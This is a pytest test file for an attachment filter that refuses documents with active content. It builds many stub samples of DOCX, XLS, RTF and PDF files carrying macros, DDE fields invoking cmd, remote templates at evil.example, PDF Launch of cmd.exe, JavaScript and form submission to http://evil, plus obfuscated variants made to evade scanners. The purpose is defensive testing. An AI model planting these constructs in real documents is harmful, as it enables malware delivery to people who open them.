"""What would run when it is opened is not kept. A document may hide it anywhere, and its parts may have any name."""

import io
import re
import zipfile
import zlib

import pytest

from storage.attachments.refused import ACTIVE, FileRefused
from tests.storage.attachments.documents import (
    DOCX,
    PDF,
    XLSX,
    compound,
    office,
    open_document,
    with_part,
    workbook,
)
from tests.storage.attachments.looks import looked_at

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OLD_VBA = compound("WordDocument", "Macros/VBA/dir")


def related(whole: bytes, kind: str, part: str = "word/_rels/document.xml.rels", encoding: str = "utf-8") -> bytes:
    """A document one of whose parts points to something of a kind."""
    text = f'<Relationships><Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="x"/></Relationships>'
    return with_part(whole, part, text.encode(encoding))


def typed(kind: str) -> bytes:
    """A docx one of whose parts is said to be of a kind."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w") as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override PartName="/a.b" ContentType="{kind}"/></Types>')
        archive.writestr("word/document.xml", "<xml/>")
    return written.getvalue()


def packed(objects: bytes) -> bytes:
    """A PDF whose objects lie in a compressed stream, as every newer program writes them; by hand, with its table."""
    head = b"%PDF-1.5\n"
    content = b"4 0 " + objects
    stream = zlib.compress(content)
    body = head + b"5 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n" % len(stream)
    at = len(head)
    body += stream + b"\nendstream\nendobj\n"
    catalogue = len(body)
    body += b"1 0 obj\n<</Type/Catalog/OpenAction 4 0 R>>\nendobj\n"
    places = len(body)
    rows = b"".join(
        kind.to_bytes(1, "big") + place.to_bytes(4, "big") + more.to_bytes(2, "big")
        for kind, place, more in (
            (0, 0, 65535),
            (1, catalogue, 0),
            (0, 0, 0),
            (0, 0, 0),
            (2, 5, 0),
            (1, at, 0),
            (1, places, 0),
        )
    )
    body += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 1 0 R/Length %d>>\nstream\n" % len(rows)
    return body + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % places


RUN = {
    "docx, macros under another name": with_part(DOCX, "word/harmless.dat", OLD_VBA),
    "docx, macros by a relation": related(DOCX, "vbaProject"),
    "docx, macros by a relation in UTF-16": related(DOCX, "vbaProject", encoding="utf-16"),
    "docx, macros by their type": typed("application/vnd.ms-word.document.macroEnabled.main+xml"),
    "docx, macros far down in its types": typed("x" * 300_000 + "application/vnd.ms-office.vbaProject"),
    "docx, a template from elsewhere": related(DOCX, "attachedTemplate", "word/_rels/settings.xml.rels"),
    "docx, an object": related(DOCX, "oleObject"),
    "docx, an object's bytes": with_part(DOCX, "word/media/image1.png", compound("x")),
    "docx, a program": with_part(DOCX, "word/media/image1.png", b"MZ" + bytes(60)),
    "docx, a control": with_part(DOCX, "word/activeX/activeX1.xml", "<ax:ocx ax:classid='{1}' xmlns:ax='activeX'/>"),
    "docx, DDE": with_part(DOCX, "word/footer1.xml", "<w:instrText>DDEAUTO c:\\\\cmd</w:instrText>"),
    "docx, DDE without a word more": with_part(DOCX, "word/footer1.xml", "<w:instrText> DDE cmd a</w:instrText>"),
    "docx, DDE in two runs": with_part(
        DOCX,
        "word/footer1.xml",
        "<w:fldChar/><w:instrText>D</w:instrText></w:r><w:r><w:instrText>DEAUTO cmd</w:instrText>",
    ),
    "docx, DDE in two runs far apart": with_part(
        DOCX,
        "word/footer1.xml",
        f"<w:instrText>DD</w:instrText><w:t>{'x' * 70_000}</w:t><w:instrText>E cmd</w:instrText>",
    ),
    "docx, DDE in one word": with_part(DOCX, "word/footer1.xml", '<w:p><w:fldSimple w:instr="DDE cmd a"/></w:p>'),
    "docx, DDE by the numbers of its letters": with_part(
        DOCX, "word/footer1.xml", "<w:instrText>&#68;&#x44;EAUTO cmd</w:instrText>"
    ),
    "docx, macros by the number of a letter": with_part(
        DOCX, "word/_rels/document.xml.rels", '<Relationship Type="office/2006/relationships/vba&#80;roject"/>'
    ),
    "docx, a frame from elsewhere": related(DOCX, "frame", "word/_rels/webSettings.xml.rels"),
    "docx, a document from elsewhere": related(DOCX, "subDocument"),
    "docx, letters to people of a database": related(DOCX, "mailMergeSource", "word/_rels/settings.xml.rels"),
    "xlsx, a database": with_part(XLSX, "xl/connections.xml", '<dbPr connection="Provider=x" command="exec"/>'),
    "docx, DDE behind which nothing stands": with_part(DOCX, "word/footer1.xml", '<w:fldSimple w:instr="DDE cmd a"/>'),
    "docx, a workbook with macros in it": with_part(
        DOCX, "word/embeddings/a.xlsx", with_part(XLSX, "xl/vbaProject.bin", "x")
    ),
    "docx, a page of the web in it": related(DOCX, "aFChunk"),
    "xlsx, a sheet of Excel-4 macros": related(XLSX, "xlMacrosheet", "xl/_rels/workbook.xml.rels"),
    "xlsx, the same in another language": related(XLSX, "xlIntlMacrosheet", "xl/_rels/workbook.xml.rels"),
    "xlsx, DDE": with_part(XLSX, "xl/externalLinks/externalLink1.xml", "<ddeLink ddeService='cmd'/>"),
    "pptx, a control": related(office("ppt/presentation.xml"), "control"),
    "odt, macros": open_document("text", "basic/Standard/Module1.xml"),
    "odt, an event": with_part(
        open_document("text"), "styles.xml", "<script:event-listener script:event-name='dom:load'/>"
    ),
    "odt, a script": with_part(
        open_document("text"), "a.xml", '<text:script script:language="JavaScript">x</text:script>'
    ),
    "odt, a link to a macro": with_part(
        open_document("text"), "a.xml", '<text:a xlink:href="vnd.sun.star.script:a.b?language=Basic"/>'
    ),
    "ods, DDE": with_part(open_document("spreadsheet"), "a.xml", "<table:dde-link/>"),
    "odt, an applet": with_part(open_document("text"), "a.xml", "<draw:applet/>"),
    "odt, an object": with_part(open_document("text"), "Object 1", compound("x")),
    "doc, macros": OLD_VBA,
    "doc, macros in small letters": compound("WordDocument", "x/y/_vba_project"),
    "doc, macros by their storage": compound("WordDocument", "MACROS/a"),
    "doc, an object": compound("WordDocument", "ObjectPool/_1/contents"),
    "doc, a package": compound("WordDocument", "a/\x01Ole10Native"),
    "doc, a control": compound("WordDocument", "a/\x03OCXNAME"),
    "doc, a template from elsewhere": compound(
        "WordDocument", **{"1Table": "http://evil.example/a.dotm".encode("utf-16-le")}
    ),
    "xls, macros": compound("Workbook", "_VBA_PROJECT_CUR/VBA/dir"),
    "xls, a sheet of Excel-4 macros": compound(Workbook=workbook(0, 1)),
    "xls of 1995, the same": compound(Book=workbook(1)),
    "xls, an object": compound("Workbook", "MBD0001A2B3/x"),
    "ppt, an object": compound(PowerPoint_Document=b"\x10\0\x11\x10\x04\0\0\0abcd"),
    "rtf, an object": rb"{\rtf1 {\object\objemb{\*\objdata 0105}}}",
    "rtf, a template from elsewhere": rb"{\rtf1 {\*\template http://evil.example/a.dotm}}",
    "rtf, DDE": rb"{\rtf1 {\field{\*\fldinst DDE cmd}}}",
    "rtf, an object with a number": rb"{\rtf1 {\object1\objemb2{\*\objdata0 0105}}}",
    "rtf, a template with a number": rb"{\rtf1 {\*\template0 http://evil.example/a.dotm}}",
    "rtf, DDE in groups": rb"{\rtf1 {\field{\*\fldinst{\b D}{\i DEAUTO} cmd}}}",
    "rtf, DDE by the numbers of its letters": rb"{\rtf1 {\field{\*\fldinst \'44\u68?\'45 cmd}}}",
    "pdf, a script": PDF + b"2 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n",
    "pdf, a script in other letters": PDF + b"2 0 obj\n<</S/J#61va#53cript/JS(1)>>\nendobj\n",
    "pdf, a program": PDF + b"2 0 obj\n<</S /Launch /F (cmd.exe)>>\nendobj\n",
    "pdf, a file in it": PDF + b"2 0 obj\n<</Type /EmbeddedFile>>\nendobj\n",
    "pdf, a script by another name": PDF + b"2 0 obj\n<</S/Rendition/JS(app.alert(1))>>\nendobj\n",
    "pdf, a file of its own opened": PDF + b"2 0 obj\n<</S/GoToE/T<</R/C/N(a)>>>>\nendobj\n",
    "pdf, a file from elsewhere opened": PDF + b"2 0 obj\n<</S/GoToR/F(evil.pdf)>>\nendobj\n",
    "pdf, what is typed into it is sent": PDF + b"2 0 obj\n<</S/SubmitForm/F(http://evil)>>\nendobj\n",
    "pdf, a form of XFA": PDF + b"2 0 obj\n<</AcroForm<</Fields[]/XFA[(preamble)3 0 R]>>>>\nendobj\n",
    "pdf, a form of XFA in one stream": PDF + b"2 0 obj\n<</AcroForm<</XFA 3 0 R>>>>\nendobj\n",
    "pdf, a form of XFA in other letters": PDF + b"2 0 obj\n<</AcroForm<</#58F#41%\n(x)>>>>\nendobj\n",
    "pdf, a script packed into a stream": packed(b"<</S/JavaScript/JS(app.alert(1))>>"),
    "pdf, a script packed into a stream, no table": re.sub(
        rb"startxref\n\d+", b"startxref\n0", packed(b"<</S/JavaScript/JS(app.alert(1))>>").replace(b"/XRef", b"/Xref")
    ),
    "pdf, a program packed into a stream": packed(b"<</S/Launch/F(cmd.exe)>>"),
}
SILENT = {
    "docx with a link": related(DOCX, "hyperlink"),
    "docx with a picture": with_part(DOCX, "word/media/image1.png", b"\x89PNG\r\n\x1a\n vbaProject"),
    "docx that speaks of macros": with_part(
        DOCX, "word/comments.xml", "<w:t>no macros please, /control the budget</w:t>"
    ),
    "docx with fields and hidden words": with_part(
        DOCX, "word/a.xml", "<w:instrText>HYPERLINK</w:instrText><w:instrText> hidden adder</w:instrText> DDE"
    ),
    "xls with two sheets": compound(Workbook=workbook(0, 0)),
    "doc of an office": compound("WordDocument", **{"1Table": "C:\\Office\\Normal.dotm".encode("utf-16-le")}),
    "pdf with a page to open": PDF + b"2 0 obj\n<</S/GoTo/D[1 0 R/Fit]>>\nendobj\n",
    "pdf with packed objects": packed(b"<</S/GoTo/D[1 0 R/Fit]>>"),
    "pdf with a form": PDF + b"2 0 obj\n<</AcroForm<</Fields[]/XFAB(x)>>>>\nendobj\n",
    "pdf with packed bytes that end as a name": PDF + b"2 0 obj\n<<>>\nstream\n\x01/XFA\x02endstream\nendobj\n",
    "pdf with packed bytes": PDF + b"2 0 obj\n<<>>\nstream\n\x01/JS \x02endstream\nendobj\n",
    "rich text": rb"{\rtf1\ansi {\fonttbl{\f0 Times;}}\f0 Smeta}",
}


@pytest.mark.parametrize("what", RUN)
def test_what_would_run_is_not_kept(tmp_path, what):
    with pytest.raises(FileRefused) as refused:
        looked_at(tmp_path, RUN[what])
    assert refused.value.why == ACTIVE


@pytest.mark.parametrize("what", SILENT)
def test_what_only_looks_like_it_is_kept(tmp_path, what):
    assert looked_at(tmp_path, SILENT[what])[0].kind == "document"


def test_the_counts(tmp_path, tell):
    kept_out = 0
    for content in RUN.values():
        try:
            looked_at(tmp_path, content)
        except FileRefused:
            kept_out += 1
    tell("documents that would run something", documents=len(RUN), kept_out=kept_out)
    assert kept_out == len(RUN)
